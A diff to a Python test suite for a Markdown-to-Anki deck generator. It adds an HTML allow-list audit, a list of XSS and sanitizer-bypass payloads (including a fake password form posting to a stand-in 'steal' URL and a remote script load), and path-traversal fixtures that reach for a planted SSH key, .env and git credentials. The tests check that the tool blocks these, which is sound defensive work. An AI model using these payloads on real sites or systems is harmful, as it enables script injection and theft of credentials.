@@ -24,6 +24,7 @@ from deckgen.api import BuildOptions, build
 from deckgen.atomic import write_bytes_atomic
 from deckgen.cli.commands import cli
 from tests.anki_support import import_apkg, notes
+from tests.pipeline_support import deck_of
 
 DOC = "## Part 1: A\n\n### Q1\n\n{answer}\n"
 
@@ -188,16 +189,213 @@ HOSTILE = (
     '<iframe src="https://example.com"></iframe>\n\n'
     '<object data="x.swf"></object>\n\n'
     '<a href="javascript:alert(4)" onclick="alert(5)">click</a> <b>bold</b> <kbd>Ctrl</kbd>\n\n'
+    '<p style="position:fixed;inset:0;background:url(https://example.com/t.png)">cover</p>\n\n'
+    '<form action="https://example.com/steal"><input name="pw" type="password"></form>\n\n'
+    "<svg onload=alert(6)><circle r=5 /></svg> <style>body{display:none}</style>\n\n"
     "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
     "```python\nx = 1\n```"
 )
 
+# What a card may carry, written out here rather than read from deckgen, so that widening
+# deckgen's allow-list fails a test: GitHub's sanitizer's elements and attributes, and what
+# deckgen's own renderer writes (classes, a table cell's alignment).
+SAFE_TAGS = frozenset(
+    (
+        *("h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "span", "br", "hr", "wbr", "b", "i"),
+        *("strong", "em", "s", "strike", "ins", "del", "mark", "small", "sup", "sub", "kbd"),
+        *("code", "pre", "samp", "var", "tt", "q", "cite", "dfn", "abbr", "time", "bdo", "ruby"),
+        *("rt", "rp", "blockquote", "details", "summary", "ul", "ol", "li", "dl", "dt", "dd"),
+        *("a", "img", "picture", "source", "table", "caption", "thead", "tbody", "tfoot", "tr"),
+        *("th", "td", "figure", "figcaption"),
+    )
+)
+SAFE_ATTRIBUTES = {
+    "*": {"align", "valign", "title", "lang", "dir", "class"},
+    "a": {"href", "rel"},
+    "img": {"src", "alt", "width", "height"},
+    "source": {"srcset", "media", "type", "width", "height"},
+    "details": {"open"},
+    "ol": {"start", "type", "reversed"},
+    "ul": {"type"},
+    "li": {"value"},
+    "td": {"colspan", "rowspan", "abbr", "scope", "style"},
+    "th": {"colspan", "rowspan", "abbr", "scope", "style"},
+    "table": {"width"},
+    "time": {"datetime"},
+}
+_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
+_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
+_DATA_PICTURE = re.compile(r"data:image/(gif|png|jpeg|webp);")
+
+
+def unsafe(html: str) -> list[str]:
+    """Whatever in `html` could run code, load a page, restyle the card or hide content, read
+    by the standard library's tokeniser (as a browser reads tags): an element or attribute off
+    the allow-list, an event handler, a style, a URL of another scheme, a comment."""
+    from html.parser import HTMLParser
+
+    found: list[str] = []
+
+    class Audit(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if tag not in SAFE_TAGS:
+                found.append(f"<{tag}>")
+            found.extend(p for name, value in attrs if (p := _attribute(tag, name, value or "")))
+
+        def handle_comment(self, data: str) -> None:
+            found.append("<!--")
+
+        def handle_decl(self, decl: str) -> None:
+            found.append(f"<!{decl}>")
+
+        def handle_pi(self, data: str) -> None:
+            found.append(f"<?{data}>")
+
+        def unknown_decl(self, data: str) -> None:
+            found.append(f"<![{data}]>")
+
+    parser = Audit(convert_charrefs=True)
+    parser.feed(html)
+    parser.close()
+    return found
+
+
+def _attribute(tag: str, name: str, value: str) -> str | None:
+    allowed = SAFE_ATTRIBUTES["*"] | SAFE_ATTRIBUTES.get(tag, set())
+    if name not in allowed or name.startswith("on"):
+        return f"{name}= on <{tag}>"
+    if name == "style" and not re.fullmatch(r"text-align:(left|center|right)", value):
+        return f"style={value!r}"
+    if name not in ("href", "src", "srcset"):
+        return None
+    # Browsers drop whitespace and control characters inside a scheme.
+    url = _INVISIBLE.sub("", value).lower()
+    scheme = _SCHEME.match(url)
+    if scheme is None or scheme[1] in ("http", "https", "mailto"):
+        return None
+    if tag == "img" and name == "src" and _DATA_PICTURE.match(url):
+        return None
+    return f"{name}={value!r}"
+
+
+# Raw HTML that tries to run code, load a page, restyle the card or slip past a sanitizer.
+VECTORS = {
+    "script": "<script>alert(1)</script>",
+    "script-src": "<SCRIPT SRC=//example.com/x.js></SCRIPT>",
+    "onerror": '<img src="x.png" onerror="alert(1)">',
+    "onerror-upper": "<IMG SRC=x ONERROR=alert(1)>",
+    "onclick": '<a href="https://example.com" onclick="alert(1)">x</a>',
+    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
+    "style-attribute": '<p style="position:fixed;inset:0;background:url(https://e.com/x)">c</p>',
+    "style-element": "<style>body { display: none }</style>",
+    "style-url": '<div style="background-image:url(javascript:alert(1))">x</div>',
+    "iframe": '<iframe src="https://example.com" width="999"></iframe>',
+    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    "form": '<form action="https://e.com/s"><input name="p" type="password"><button>Go</button></form>',
+    "input-autofocus": "<input autofocus onfocus=alert(1)>",
+    "object": '<object data="x.swf"></object>',
+    "embed": '<embed src="x.swf">',
+    "javascript-href": '<a href="javascript:alert(1)">x</a>',
+    "javascript-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "javascript-entity": '<a href="&#106;avascript:alert(1)">x</a>',
+    "javascript-tab": '<a href="java&#x09;script:alert(1)">x</a>',
+    "javascript-space": '<a href=" javascript:alert(1)">x</a>',
+    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "data-svg-image": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
+    "srcset-javascript": '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
+    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
+    "svg-link": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
+    "svg-script": "<svg><script>alert(1)</script></svg>",
+    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://example.com">',
+    "base": '<base href="https://example.com/">',
+    "link-stylesheet": '<link rel="stylesheet" href="https://example.com/x.css">',
+    "video": "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
+    "template": "<template><img src=x onerror=alert(1)></template>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "split-script": "<<script>script>alert(1)<</script>/script>",
+    "nested-tag": "<b <script>alert(1)</script>>x</b>",
+    "quote-break": '<img src="x" alt="a\\" onerror=alert(1)">',
+    "comment": "<!--<script>alert(1)//--> <b>after</b>",
+    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
+    "unclosed": "<div><span onclick=alert(1)>never closed",
+    "closer-first": "</p></div><script>alert(1)</script><p>",
+    "id-clobber": '<a id="answer" name="dg-question" href="#">x</a>',
+    "target-blank": '<a href="https://example.com" target="_blank">x</a>',
+}
+
+
+def test_safety__the_audit_finds_every_vector_as_written() -> None:
+    """The check below could not fail if `unsafe` saw nothing: it sees each vector raw (the
+    ones made of text a browser never runs are the sanitizer's business, not the audit's)."""
+    harmless_as_text = {"split-script", "quote-break", "nested-tag"}
+    for name, vector in VECTORS.items():
+        assert unsafe(vector) or name in harmless_as_text, name
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
+def test_safety__no_vector_reaches_a_card_by_default(vector: str, tmp_path: Path) -> None:
+    """The default build keeps raw HTML: in the answer, the question and the part heading,
+    whatever the vector tries, the fields carry nothing the audit objects to."""
+    one_line = " ".join(vector.split("\n"))
+    text = (
+        f"## Part 1: A {one_line}\n\n### Q1 {one_line}\n\n{vector}\n\n"
+        f"Inline {one_line} text.\n\n### Q2\n\n- item {one_line}\n\n> {one_line}\n"
+    )
+    for note in deck_of(text, tmp_path / "doc.md").notes:
+        for field in (note.question, note.answer, note.part):
+            assert unsafe(field) == [], field
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
+def test_safety__no_html_shows_every_vector_as_text(vector: str, tmp_path: Path) -> None:
+    text = DOC.format(answer=f"The answer.\n\n{vector}")
+    (note,) = deck_of(text, tmp_path / "doc.md", BuildOptions(html=False)).notes
+    tags = re.findall(r"<(/?[a-z0-9]+)", note.answer)
+    assert set(tags) <= {"p", "/p"}, note.answer
+
 
 @pytest.mark.anki
-def test_safety__raw_html_is_text_by_default(collection: Collection, tmp_path: Path) -> None:
+def test_safety__raw_html_is_kept_and_cleaned_by_default(
+    collection: Collection, tmp_path: Path
+) -> None:
+    source = _write_doc(tmp_path, HOSTILE)
+    (tmp_path / "x.png").write_bytes(b"an image")
+    out = tmp_path / "doc.apkg"
+    result = _build(str(source), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    answer = _answer(collection, out)
+    assert unsafe(answer) == []
+    for dangerous in ("alert(1)", "alert(6)", "onerror", "onclick", "position:fixed", "cover"):
+        assert dangerous not in answer.replace("<p>cover</p>", "")
+    assert "javascript:" not in answer.replace("[link](javascript:alert(3))", "")
+    # Harmless markup, and what deckgen itself emits, survives.
+    packed = f"dg-{hashlib.sha256(b'an image').hexdigest()[:16]}.png"
+    assert f'<img src="{packed}">' in answer
+    assert "<b>bold</b> <kbd>Ctrl</kbd>" in answer and "<p>cover</p>" in answer
+    assert '<th style="text-align:left">a</th>' in answer
+    assert '<pre class="highlight"><code class="language-python"><span class="n">x</span>' in answer
+    assert f"{source}:5: warning: raw HTML `<script>` is removed, with what it holds" in (
+        result.stderr
+    )
+
+
+def test_safety__allow_html_is_the_default_under_its_old_name(tmp_path: Path) -> None:
+    source = _write_doc(tmp_path, HOSTILE)
+    outs = [tmp_path / "default.apkg", tmp_path / "allow.apkg", tmp_path / "html.apkg"]
+    for out, flags in zip(outs, ([], ["--allow-html"], ["--html"]), strict=True):
+        assert _build(str(source), "-o", str(out), *flags).exit_code == 0
+    assert outs[0].read_bytes() == outs[1].read_bytes() == outs[2].read_bytes()
+
+
+@pytest.mark.anki
+def test_safety__no_html_shows_raw_html_as_text(collection: Collection, tmp_path: Path) -> None:
     source = _write_doc(tmp_path, HOSTILE)
     out = tmp_path / "doc.apkg"
-    assert _build(str(source), "-o", str(out)).exit_code == 0
+    assert _build(str(source), "-o", str(out), "--no-html").exit_code == 0
     answer = _answer(collection, out)
     assert "<script" not in answer and "<iframe" not in answer and "<object" not in answer
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer
@@ -206,23 +404,31 @@ def test_safety__raw_html_is_text_by_default(collection: Collection, tmp_path: P
     assert not re.search(r"<[^>]+\son\w+=", answer)
 
 
-@pytest.mark.anki
-def test_safety__allowed_html_is_sanitised(collection: Collection, tmp_path: Path) -> None:
-    source = _write_doc(tmp_path, HOSTILE)
-    (tmp_path / "x.png").write_bytes(b"an image")
+@pytest.mark.parametrize(
+    ("where", "text"),
+    [
+        ("config", "html = false\n"),
+        ("front-matter", None),
+    ],
+)
+def test_safety__html_false_in_the_config_or_front_matter_shows_it_as_text(
+    tmp_path: Path, where: str, text: str | None
+) -> None:
+    answer = "Line<br>break <b>bold</b>."
+    if where == "config":
+        (tmp_path / "deckgen.toml").write_text(text or "", encoding="utf-8")
+        source = _write_doc(tmp_path, answer)
+    else:
+        source = tmp_path / "doc.md"
+        source.write_text("---\ndeckgen:\n  html: false\n---\n" + DOC.format(answer=answer))
     out = tmp_path / "doc.apkg"
-    result = _build(str(source), "-o", str(out), "--allow-html")
-    assert result.exit_code == 0, result.output
-    answer = _answer(collection, out)
-    for dangerous in ("<script", "alert(1)", "<iframe", "<object", "onerror", "onclick"):
-        assert dangerous not in answer
-    assert "javascript:" not in answer.replace("[link](javascript:alert(3))", "")
-    # Harmless markup, and what deckgen itself emits, survives.
-    packed = f"dg-{hashlib.sha256(b'an image').hexdigest()[:16]}.png"
-    assert f'<img src="{packed}">' in answer
-    assert "<b>bold</b> <kbd>Ctrl</kbd>" in answer
-    assert '<th style="text-align:left">a</th>' in answer
-    assert '<pre class="highlight"><code class="language-python"><span class="n">x</span>' in answer
+    for flags, shown in (
+        ([], "Line&lt;br&gt;break &lt;b&gt;bold&lt;/b&gt;."),
+        (["--html"], "Line<br>break <b>bold</b>."),  # the command line wins
+    ):
+        assert _build(str(source), "-o", str(out), *flags).exit_code == 0
+        with zipfile.ZipFile(out) as zf:
+            assert shown.encode() in zf.read("collection.anki2")
 
 
 # --- Nothing unsafe: images ---------------------------------------------------------------------
@@ -230,7 +436,8 @@ def test_safety__allowed_html_is_sanitised(collection: Collection, tmp_path: Pat
 
 @pytest.fixture
 def image_tree(tmp_path: Path) -> Path:
-    """A source folder with images inside, beside and outside it, and one symlink out."""
+    """A source folder with images inside, beside and outside it, and one symlink out; no
+    project, no repository."""
     source_dir = tmp_path / "notes"
     (source_dir / "img").mkdir(parents=True)
     (source_dir / "sub").mkdir()
@@ -248,19 +455,22 @@ def image_tree(tmp_path: Path) -> Path:
     return _write_doc(source_dir, answer)
 
 
+OUTSIDE = "is outside the source's folder, project and repository; it is not packed"
+
+
 def test_safety__check_names_every_image_that_cannot_be_packed(image_tree: Path) -> None:
     result = CliRunner().invoke(cli, ["check", str(image_tree)])
-    assert result.exit_code == 1
+    assert result.exit_code == 0
     assert result.output == (
-        f"{image_tree}:7: error: image ../secret.png is outside the source's folder; "
-        "it is not packed\n"
-        f"{image_tree}:7: error: image path /etc/hostname is absolute; "
-        "use a path relative to the source's folder\n"
-        f"{image_tree}:7: error: image img/link.png is outside the source's folder; "
-        "it is not packed\n"
+        f"{image_tree}:7: warning: image ../secret.png {OUTSIDE}\n"
+        f"{image_tree}:7: warning: image path /etc/hostname is absolute and the source is in "
+        "no repository or project; use a path relative to the source's folder (it is not "
+        "packed)\n"
+        f"{image_tree}:7: warning: image img/link.png {OUTSIDE}\n"
         f"{image_tree}:8: info: remote image https://example.com/remote.png is not packed\n"
-        "1 file checked: 3 errors, 0 warnings, 1 note\n"
+        "1 file checked: 0 errors, 3 warnings, 1 note\n"
     )
+    assert CliRunner().invoke(cli, ["check", "--strict", str(image_tree)]).exit_code == 1
 
 
 @pytest.mark.anki
@@ -272,8 +482,8 @@ def test_safety__only_images_inside_the_tree_are_packed(
 
     monkeypatch.setattr(socket.socket, "connect", no_network)
     out, again = tmp_path / "one.apkg", tmp_path / "two.apkg"
-    assert _build(str(image_tree), "-o", str(out), "--force").exit_code == 0
-    assert _build(str(image_tree), "-o", str(again), "--force").exit_code == 0
+    assert _build(str(image_tree), "-o", str(out)).exit_code == 0
+    assert _build(str(image_tree), "-o", str(again)).exit_code == 0
     assert out.read_bytes() == again.read_bytes()  # stable names, stable package
 
     with zipfile.ZipFile(out) as zf:
@@ -287,17 +497,94 @@ def test_safety__only_images_inside_the_tree_are_packed(
     answer = _answer(collection, out)
     assert answer.count(f'<img src="{first}"') == 3
     assert answer.count(f'<img src="{second}"') == 1
-    for unpacked in ("../secret.png", "/etc/hostname", "img/link.png"):
-        assert f'<img src="{unpacked}"' in answer
+    for alt, unpacked in (
+        ("up", "../secret.png"),
+        ("abs", "/etc/hostname"),
+        ("link", "img/link.png"),
+    ):
+        assert f'<img src="{unpacked}"' not in answer
+        assert f"{alt} <small>(image not packed: {unpacked})</small>" in answer
     assert '<img src="https://example.com/remote.png" alt="remote" />' in answer
     media_dir = Path(collection.media.dir())
     assert sorted(p.name for p in media_dir.iterdir()) == sorted([first, second])
     assert (media_dir / first).read_bytes() == b"first image"
 
 
+def _repository(tmp_path: Path) -> tuple[Path, Path]:
+    """A home folder with a private key and a picture, and inside it a repository whose
+    document sits two folders down, with the repository's own images, a `.env` and a link out;
+    the document and the home folder."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_bytes(b"-----BEGIN PRIVATE KEY----- secret")
+    (home / "holiday.png").write_bytes(b"a picture outside the repository")
+    repo = home / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / ".git" / "config").write_bytes(b"url = https://user:token@example.com/r.git")
+    (repo / "images").mkdir()
+    (repo / "images" / "diagram.png").write_bytes(b"the repository's diagram")
+    (repo / ".env").write_bytes(b"TOKEN=secret")
+    (repo / "images" / "key.png").symlink_to(home / ".ssh" / "id_rsa")
+    (repo / "images" / "holiday.png").symlink_to(home / "holiday.png")
+    answer = (
+        "![sibling](../../images/diagram.png) ![root](/images/diagram.png)\n"
+        "![key](../../../.ssh/id_rsa) ![picture](../../../holiday.png)\n"
+        "![linked key](../../images/key.png) ![linked picture](../../images/holiday.png)\n"
+        "![git](../../.git/config) ![env](../../.env) ![escape](/../.ssh/id_rsa)\n"
+        '<img src="../../../.ssh/id_rsa" alt="raw"> ![encoded](..%2F..%2F..%2F.ssh%2Fid_rsa)'
+    )
+    return _write_doc(repo / "docs" / "notes", answer), home
+
+
+def test_safety__images_anywhere_in_the_repository_are_packed_nothing_outside(
+    tmp_path: Path,
+) -> None:
+    """`../images/x.png` and `/images/x.png` as GitHub resolves them, inside the repository;
+    never the key or picture outside it, however the path or a link gets there, nor the
+    repository's `.git` or a file that is no picture."""
+    source, home = _repository(tmp_path)
+    out = tmp_path / "deck.apkg"
+    result = _build(str(source), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out) as zf:
+        media = json.loads(zf.read("media"))
+        packed = [zf.read(entry) for entry in media]
+        everything = b"".join(zf.read(name) for name in zf.namelist())
+    assert packed == [b"the repository's diagram"]
+    for secret in (b"PRIVATE KEY", b"outside the repository", b"token@", b"TOKEN="):
+        assert secret not in everything
+    warnings = [line for line in result.stderr.splitlines() if ": warning: " in line]
+    assert len(warnings) == 9, result.stderr
+    for path in ("../../../.ssh/id_rsa", "../../../holiday.png", "../../images/key.png"):
+        assert f"{source}:6: warning: image {path} {OUTSIDE}" in result.stderr or (
+            f"{source}:7: warning: image {path} {OUTSIDE}" in result.stderr
+        )
+    assert "image ../../.git/config is inside a .git folder; it is not packed" in result.stderr
+    assert "image ../../.env is not a picture file" in result.stderr
+    assert f"image /../.ssh/id_rsa {OUTSIDE}" in result.stderr
+    assert (home / ".ssh" / "id_rsa").read_bytes().startswith(b"-----BEGIN")
+
+
+def test_safety__images_in_the_project_folder_are_packed(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    (project / "assets").mkdir(parents=True)
+    (project / "assets" / "chart.png").write_bytes(b"the project's chart")
+    (project / "deckgen.toml").write_text('deck = "Notes"\n', encoding="utf-8")
+    (tmp_path / "beside.png").write_bytes(b"beside the project")
+    source = _write_doc(project / "notes", "![chart](../assets/chart.png) ![b](../../beside.png)")
+    out = tmp_path / "deck.apkg"
+    result = _build(str(source), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out) as zf:
+        assert [zf.read(entry) for entry in json.loads(zf.read("media"))] == [
+            b"the project's chart"
+        ]
+    assert result.stderr == f"{source}:5: warning: image ../../beside.png {OUTSIDE}\n"
+
+
 RAW_IMAGES = (
     'Inline <img src="img/a.png" width="120" alt="a"> and ![md](img/a.png).\n\n'
-    '<p>\n<img src="img/b c.png">\n<img src="img/missing.png">\n</p>\n\n'
+    '<p>\n<img src="img/b c.png">\n<img src="img/missing.png" alt="gone">\n</p>\n\n'
     '<img src="../secret.png"> <img src="https://example.com/x.png">'
 )
 
@@ -312,31 +599,35 @@ def test_safety__raw_html_images_are_packed_and_checked_like_markdown_ones(
     (source_dir / "img" / "b c.png").write_bytes(b"second image")
     (tmp_path / "secret.png").write_bytes(b"outside the tree")
     source = _write_doc(source_dir, RAW_IMAGES)
-    checked = CliRunner().invoke(cli, ["check", "--allow-html", str(source)])
-    assert checked.exit_code == 1
-    assert f"{source}:9: error: image img/missing.png not found\n" in checked.output
-    assert f"{source}:12: error: image ../secret.png is outside the source's folder" in (
-        checked.output
+    checked = CliRunner().invoke(cli, ["check", str(source)])
+    assert checked.exit_code == 0
+    assert (
+        f"{source}:9: warning: image img/missing.png not found; the card shows its alt text\n"
+        in checked.output
     )
+    assert f"{source}:12: warning: image ../secret.png {OUTSIDE}" in checked.output
     assert f"{source}:12: info: remote image https://example.com/x.png is not packed" in (
         checked.output
     )
 
     out = tmp_path / "deck.apkg"
-    assert _build(str(source), "-o", str(out), "--allow-html", "--force").exit_code == 0
+    assert _build(str(source), "-o", str(out)).exit_code == 0
     first = f"dg-{hashlib.sha256(b'first image').hexdigest()[:16]}.png"
     second = f"dg-{hashlib.sha256(b'second image').hexdigest()[:16]}.png"
     answer = _answer(collection, out)
     assert f'<img src="{first}" width="120" alt="a">' in answer
     assert f'<img src="{first}" alt="md">' in answer
     assert f'<img src="{second}">' in answer
-    for unpacked in ("img/missing.png", "../secret.png", "https://example.com/x.png"):
-        assert f'<img src="{unpacked}">' in answer
+    assert '<img src="https://example.com/x.png">' in answer
+    assert "gone <small>(image not found: img/missing.png)</small>" in answer
+    assert "<small>(image not packed: ../secret.png)</small>" in answer
+    assert "img/missing.png" not in answer.replace("image not found: img/missing.png", "")
+    assert '"../secret.png"' not in answer
     media_dir = Path(collection.media.dir())
     assert sorted(p.name for p in media_dir.iterdir()) == sorted([first, second])
     # The library's build without a state file renders the cards another way: the same package.
     again = tmp_path / "again.apkg"
-    build(source, again, BuildOptions(allow_html=True, force=True), clock=lambda: 0)
+    build(source, again, BuildOptions(), clock=lambda: 0)
     with zipfile.ZipFile(again) as zf:
         assert sorted(json.loads(zf.read("media")).values()) == sorted([first, second])
         collection_db = zf.read("collection.anki2")
@@ -345,7 +636,7 @@ def test_safety__raw_html_images_are_packed_and_checked_like_markdown_ones(
 
 def test_safety__media_names_come_from_content(image_tree: Path, tmp_path: Path) -> None:
     out = tmp_path / "deck.apkg"
-    assert _build(str(image_tree), "-o", str(out), "--force").exit_code == 0
+    assert _build(str(image_tree), "-o", str(out)).exit_code == 0
     with zipfile.ZipFile(out) as zf:
         names = set(json.loads(zf.read("media")).values())
     digest = hashlib.sha256(b"first image").hexdigest()
